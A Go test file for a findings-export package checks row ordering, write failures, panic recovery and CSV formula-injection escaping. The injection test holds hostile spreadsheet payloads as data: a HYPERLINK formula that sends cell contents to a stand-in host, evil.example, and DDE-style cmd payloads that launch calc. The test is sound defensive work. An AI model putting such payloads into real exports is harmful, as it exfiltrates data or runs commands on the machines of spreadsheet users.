package export

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"qvt/internal/finding"
	"qvt/internal/store"
)

func rows(n int) []*store.Row {
	kb := &store.Shared{}
	out := make([]*store.Row, n)
	for i := range out {
		r := &store.Row{Shared: kb}
		r.QID = 100 + i%7
		r.Port = i
		r.IP = "10.0.0.1"
		r.Key = finding.Key(r.IP, r.QID, r.Port)
		r.Title = "title"
		r.Results = strings.Repeat("x", i%50)
		out[i] = r
	}
	return out
}

// Rows cross batches to the encoder: the document must hold every one,
// in order, in each format.
func TestWriteOrder(t *testing.T) {
	const n = 3*pipeBatch + 17
	for _, format := range Formats {
		t.Run(format, func(t *testing.T) {
			var out bytes.Buffer
			w, err := New(format, &out)
			if err != nil {
				t.Fatal(err)
			}
			in := rows(n)
			for _, r := range in {
				if err := w.Write(r); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			var keys []string
			switch format {
			case "json":
				var fs []struct{ Key string }
				if err := json.Unmarshal(out.Bytes(), &fs); err != nil {
					t.Fatal(err)
				}
				for _, f := range fs {
					keys = append(keys, f.Key)
				}
			case "ndjson":
				sc := bufio.NewScanner(&out)
				for sc.Scan() {
					var f struct{ Key string }
					if err := json.Unmarshal(sc.Bytes(), &f); err != nil {
						t.Fatal(err)
					}
					keys = append(keys, f.Key)
				}
			case "csv":
				lines := strings.Split(strings.TrimSpace(out.String()), "\n")
				for _, l := range lines[1:] {
					keys = append(keys, strings.SplitN(l, ",", 2)[0])
				}
			case "legacy":
				// An object: check the order of its keys as written.
				for _, l := range strings.Split(out.String(), "\n") {
					if k, _, ok := strings.Cut(strings.TrimPrefix(l, ","), `":`); ok && strings.HasPrefix(k, `"10.`) {
						keys = append(keys, strings.TrimPrefix(k, `"`))
					}
				}
			}
			if len(keys) != n {
				t.Fatalf("%d findings written, want %d", len(keys), n)
			}
			for i, k := range keys {
				if k != in[i].Key {
					t.Fatalf("finding %d is %s, want %s", i, k, in[i].Key)
				}
			}
		})
	}
}

// failAfter accepts n bytes, then fails like a full disk.
type failAfter struct{ n int }

var errFull = errors.New("no space left on device")

func (f *failAfter) Write(p []byte) (int, error) {
	if f.n < len(p) {
		return 0, errFull
	}
	f.n -= len(p)
	return len(p), nil
}

func TestWriteFails(t *testing.T) {
	w, err := New("ndjson", &failAfter{n: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	// Far more than the destination takes: Write must start failing
	// instead of encoding everything into the void.
	var werr error
	written := 0
	for _, r := range rows(200_000) {
		if werr = w.Write(r); werr != nil {
			break
		}
		written++
	}
	cerr := w.Close()
	if !errors.Is(werr, errFull) {
		t.Errorf("Write after the destination failed: %v (after %d rows), want %v", werr, written, errFull)
	}
	if !errors.Is(cerr, errFull) {
		t.Errorf("Close: %v, want %v", cerr, errFull)
	}
	if err := w.Write(rows(1)[0]); err == nil {
		t.Errorf("Write after Close succeeded")
	}
}

// panicWriter panics on its first write, as a bug below the export would.
type panicWriter struct{}

func (panicWriter) Write([]byte) (int, error) { panic("destination broke") }

// A panic on the goroutines that encode and write comes back as the
// export's error, not as a crash of the process.
func TestWritePanics(t *testing.T) {
	w, err := New("ndjson", panicWriter{})
	if err != nil {
		t.Fatal(err)
	}
	var werr error
	for _, r := range rows(20_000) {
		if werr = w.Write(r); werr != nil {
			break
		}
	}
	cerr := w.Close()
	if cerr == nil || !strings.HasPrefix(cerr.Error(), "internal error: destination broke") {
		t.Errorf("Close: %v, want the internal error of the panic", cerr)
	}
	if werr != nil && !strings.HasPrefix(werr.Error(), "internal error: destination broke") {
		t.Errorf("Write: %v, want nil or the internal error of the panic", werr)
	}
}

// Text cells a spreadsheet would run as formulas are written as text (a
// leading '); the numbers qvt writes itself are not touched.
func TestCSVFormulaInjection(t *testing.T) {
	r := rows(1)[0]
	r.Shared = nil
	r.Hostname = `=HYPERLINK("https://evil.example/?"&A1,"click")`
	r.OS = "+cmd|' /C calc'!A0"
	r.Title = "-2+3"
	r.Results = "@SUM(1+1)*cmd|' /C calc'!A0"
	r.Category = "\t=1+1"
	r.Solution = "\r=1+1"
	r.Diagnosis = "a = b, harmless"
	r.VendorRefs = []string{"=1+2", "VENDOR-1"}
	base := 7.5
	r.Base = &base
	r.HostID = 42
	var out bytes.Buffer
	w, err := New("csv", &out)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(r); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for i, col := range recs[0] {
		got[col] = recs[1][i]
	}
	for col, want := range map[string]string{
		"hostname":    `'=HYPERLINK("https://evil.example/?"&A1,"click")`,
		"os":          "'+cmd|' /C calc'!A0",
		"title":       "'-2+3",
		"results":     "'@SUM(1+1)*cmd|' /C calc'!A0",
		"category":    "'\t=1+1",
		"solution":    "'\r=1+1",
		"diagnosis":   "a = b, harmless",
		"vendor_refs": "'=1+2;VENDOR-1",
		"base":        "7.5",
		"host_id":     "42",
		"key":         r.Key,
	} {
		if got[col] != want {
			t.Errorf("%s = %q, want %q", col, got[col], want)
		}
	}
}
